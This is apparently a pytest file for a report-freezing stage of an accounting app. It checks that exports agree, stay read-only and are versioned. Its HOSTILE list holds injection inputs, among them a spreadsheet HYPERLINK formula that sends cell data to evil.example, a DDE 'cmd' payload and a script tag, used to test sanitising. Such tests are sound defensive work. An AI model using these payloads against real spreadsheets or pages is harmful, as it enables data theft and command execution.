"""Held: a report that is frozen doesn't change; CSV, workbook, page and Prefect's page say the same figures; no text of
anybody's becomes a formula or markup; a later version says what changed since.
"""

from __future__ import annotations

import csv
import io
import json
import re
import stat
from dataclasses import replace
from datetime import date, timedelta
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from domain.money import plain, show
from domain.month import Month
from domain.period import between
from ledger import audit, reports
from stages import freezing
from stages.freezing import Frozen, freeze
from stages.reconcile import reconcile
from templates.month_page import month_html, month_markdown
from templates.sheets import harmless, sheets
from tests.support.house import House
from tests.support.quarter import FIRST, LAST, Quarter

QUARTER = between(FIRST, LAST)
HOSTILE = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+61 2 5550 1420",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
    "\u202egnp.exe",
    "a\u0000b",
)


@pytest.fixture(scope="module")
def month(lived: Quarter) -> Month:
    return reconcile(lived.twin().house.open(), QUARTER)


@pytest.fixture(scope="module")
def frozen(lived: Quarter, month: Month, tmp_path_factory: pytest.TempPathFactory) -> Frozen:
    return freeze(lived.twin().house.open(), month, tmp_path_factory.mktemp("home"))


class Page(HTMLParser):
    """The tables of a page by caption, row by row, as text; and what accessible tables need."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self._rows: list[list[str]] = []
        self._caption, self._in = "", ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "table":
            self._rows, self._caption = [], ""
        elif tag == "tr":
            self._rows.append([])
        elif tag in {"td", "th"}:
            self._rows[-1].append("")
        if tag in {"td", "th", "caption", "small"}:
            self._in = tag

    def handle_endtag(self, tag: str) -> None:
        if tag == "table":
            self.tables[" ".join(self._caption.split())] = self._rows
        if tag in {"td", "th", "caption", "small"}:
            self._in = ""

    def handle_data(self, data: str) -> None:
        if self._in == "caption":
            self._caption += data
        elif self._in in {"td", "th"} and self._rows:
            self._rows[-1][-1] += data.strip()


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def read_sheet(book: Any, name: str) -> list[dict[str, Any]]:
    heading, *rows = book[name].iter_rows(values_only=True)
    return [dict(zip(heading, row, strict=True)) for row in rows]


def test_csv_workbook_page_and_prefects_page_say_the_same(frozen: Frozen, month: Month) -> None:
    book = load_workbook(frozen.folder / "report.xlsx")
    page = Page(frozen.page.read_text())
    artifact = month_markdown(month, frozen.edition, "here")
    for each in month.taxes:
        (in_csv,) = [r for r in read_csv(frozen.folder / "gst.csv") if r["Tax type"] == each.code]
        (in_book,) = [r for r in read_sheet(book, "GST") if r["Tax type"] == each.code]
        table = page.tables["Approved sales invoices dated in the period, less credit notes, by tax type"]
        (on_page,) = [row for row in table if row[0] == each.name]
        assert [in_csv[n] for n in ("Net", "GST", "With GST")] == [plain(a) for a in (each.net, each.gst, each.gross)]
        assert Decimal(str(in_book["GST"])) == each.gst
        shown = [show(a, "AUD") for a in (each.net, each.gst, each.gross)]
        assert on_page[1:4] == shown
        assert f"| {each.code} | {' | '.join(shown)} |" in artifact
    counts = {name: sum(states.values()) for name, states in month.counts().items()}
    summary = {r["Class"].lower(): r for r in read_csv(frozen.folder / "summary.csv")}
    on_page = {row[0].lower(): row for row in page.tables["Deals by class, and whether they are settled"]}
    for name, count in counts.items():
        assert int(summary[name.lower()]["Deals"]) == count
        assert int(on_page[name.lower()][1]) == count
        assert re.search(rf"\| {name}(?: \(not counted above\))? \| {count} \|", artifact)
    assert {r["Class"]: r["Deals"] for r in read_sheet(book, "Summary")}["Won deals of the period"] == len(month.won)


def test_every_deal_is_in_csv_and_workbook_with_the_same_figures(frozen: Frozen, month: Month) -> None:
    in_csv = {r["Deal"]: r for r in read_csv(frozen.folder / "deals.csv")}
    in_book = {r["Deal"]: r for r in read_sheet(load_workbook(frozen.folder / "report.xlsx"), "Deals")}
    assert in_csv.keys() == in_book.keys() == {row.deal for row in month.rows}
    for row in month.rows:
        assert in_csv[row.deal]["Class"] == in_book[row.deal]["Class"] == row.name_of_class
        for name, amount in (("Invoiced", row.invoiced), ("Paid", row.paid), ("Due", row.due)):
            assert in_csv[row.deal][name] == plain(amount)
            assert Decimal(str(in_book[row.deal][name])) == amount
    sums = {name: sum(getattr(row, name) for row in month.won) for name in ("invoiced", "paid", "due")}
    assert sums == {name: sum(getattr(s, name) for s in month.pipelines) for name in sums}


def test_the_workbooks_cells_are_figures_and_days_and_text(frozen: Frozen) -> None:
    book = load_workbook(frozen.folder / "report.xlsx")
    heading = [cell.value for cell in book["Deals"][1]]
    row: Any = book["Deals"][2]
    first = dict(zip(heading, row, strict=True))
    assert (first["Invoiced"].data_type, first["Invoiced"].number_format) == ("n", "#,##0.00")
    assert first["Won on"].is_date
    assert (first["Deal"].data_type, first["Deal"].number_format, first["Deal"].quotePrefix) == ("s", "@", True)
    assert book["Deals"].freeze_panes == "A2"
    assert book.sheetnames[0] == "Summary"


@pytest.mark.parametrize("text", HOSTILE)
def test_nobodys_text_becomes_a_formula_or_markup(month: Month, tmp_path: Path, lived: Quarter, text: str) -> None:
    row = replace(month.rows[0], name=text, customer=text, why=text, where=(text,), url=f"javascript:{text}")
    hostile = replace(month, rows=(row, *month.rows[1:]), organisation=text)
    made = freeze(lived.twin().house.open(), hostile, tmp_path)
    for cells in read_csv(made.folder / "deals.csv"):
        assert not any(cell.startswith(("=", "+", "@", "\t", "＝")) for cell in cells.values() if cell)
        assert not any(
            cell.startswith("-") and not re.fullmatch(r"-\d+\.\d\d", cell) for cell in cells.values() if cell
        )
    for sheet in load_workbook(made.folder / "report.xlsx"):
        assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)
    page = Page(made.page.read_text())
    assert "script" not in {tag for tag, _ in page.tags}
    assert not any(str(attrs.get("href", "")).startswith("javascript") for _, attrs in page.tags)
    assert "49" not in [cell for table in page.tables.values() for line in table for cell in line]
    assert "\u202e" not in made.page.read_text()
    assert text not in month_markdown(hostile, made.edition, "here")


def test_text_that_is_harmless_stays_as_it_is() -> None:
    assert [harmless(text) for text in ("Smith & Sons", "O'Brien", "3 = 3", "")] == [
        "Smith & Sons",
        "O'Brien",
        "3 = 3",
        "",
    ]


def test_the_page_can_be_used_without_seeing_it_and_needs_nothing_beside_it(frozen: Frozen) -> None:
    page = Page(frozen.page.read_text())
    tags = [tag for tag, _ in page.tags]
    assert tags.count("table") == tags.count("caption") == len(page.tables)
    assert all("scope" in attrs for tag, attrs in page.tags if tag == "th")
    assert all(
        attrs.get("alt") and str(attrs["src"]).startswith("data:image/svg") for t, attrs in page.tags if t == "img"
    )
    assert ("html", {"lang": "en-AU"}) in page.tags
    assert not {"script", "link", "iframe"} & set(tags)
    assert tags.count("h1") == 1


def test_prefect_is_told_ids_and_amounts_and_never_a_name(month: Month, frozen: Frozen) -> None:
    text = month_markdown(month, frozen.edition, "here")
    names = {row.customer for row in month.rows} | {owed.customer for owed in month.owed} | {"Job"}
    assert not [name for name in names if name and name in text]


def test_a_frozen_report_is_for_its_owners_eyes_and_says_so_when_it_was_touched(
    frozen: Frozen, lived: Quarter, month: Month, tmp_path: Path
) -> None:
    house = lived.twin().house
    made = freeze(house.open(), month, tmp_path)
    with house.ledger.read() as session:
        (row,) = reports.listed(session, "demo")
        (entry,) = [e for e in audit.since(session, "demo", 0) if e.event == "report frozen"]
    assert json.loads(entry.details)["sha256"] == row.content == made.content == frozen.content
    assert freezing.differing(row, tmp_path) == []
    assert all(stat.S_IMODE(path.stat().st_mode) == 0o400 for path in made.folder.iterdir())
    sums = dict(line.split("  ")[::-1] for line in (made.folder / "SHA256SUMS").read_text().splitlines())
    assert sums == dict(reports.files(row))
    page = made.page
    page.chmod(0o600)
    page.write_text(page.read_text().replace("11 deals", "0 deals"))
    assert freezing.differing(row, tmp_path) == ["report.html"]


def test_the_same_again_is_no_new_version_and_something_new_says_what_changed(lived: Quarter, tmp_path: Path) -> None:
    house = lived.twin().house
    first = freeze(house.open(), reconcile(house.open(), QUARTER), tmp_path)
    page, content = first.page.read_bytes(), first.content
    second = freeze(house.open(), reconcile(house.open(), QUARTER), tmp_path)
    assert (second.version, second.fresh) == (2, True)  # what was mended agrees now
    assert {what for each in second.edition.changed for what in each.what if what.startswith("class")} == {
        "class: paid state differs → agreed",
        "class: not invoiced → agreed",
    }
    again = freeze(house.open(), reconcile(house.open(), QUARTER), tmp_path)
    assert (again.version, again.fresh, again.folder) == (2, False, second.folder)

    deal = next(row.deal for row in reconcile(house.open(), QUARTER).rows if row.name_of_class == "agreed" and row.due)
    house.xero.people.pay(house.invoice(deal)["InvoiceID"], "1.00")
    third = freeze(house.open(), reconcile(house.open(), QUARTER), tmp_path)
    (changed,) = third.edition.changed
    assert (changed.deal, third.version) == (deal, 3)
    assert any(what.startswith("paid: ") for what in changed.what)
    assert "Since version 2" in third.page.read_text()
    assert (first.page.read_bytes(), first.content) == (page, content)


def test_files_of_a_run_that_was_cut_short_are_written_over(lived: Quarter, month: Month, tmp_path: Path) -> None:
    house = lived.twin().house
    for name in ("v1", "v1.part"):
        stale = tmp_path / "reports" / "demo" / QUARTER.name / name
        stale.mkdir(parents=True)
        (stale / "report.html").write_text("half")
    made = freeze(house.open(), month, tmp_path)
    with house.ledger.read() as session:
        (row,) = reports.listed(session, "demo")
    assert freezing.differing(row, tmp_path) == []
    assert [path.name for path in made.folder.parent.iterdir()] == ["v1"]


def test_the_same_facts_make_the_same_page(month: Month, frozen: Frozen) -> None:
    assert month_html(month, frozen.edition) == month_html(month, frozen.edition) == frozen.page.read_text()


def test_a_report_of_a_company_without_a_history_can_be_frozen(tmp_path: Path) -> None:
    house = House.settled(watch=False)
    today = date(2026, 11, 25)
    made = freeze(house.open(), reconcile(house.open(), between(today - timedelta(9), today)), tmp_path)
    assert "Nothing is unexplained" in made.page.read_text()
    assert [sheet.name for sheet in sheets(freezing.MONTH.validate_json((made.folder / "report.json").read_bytes()))]
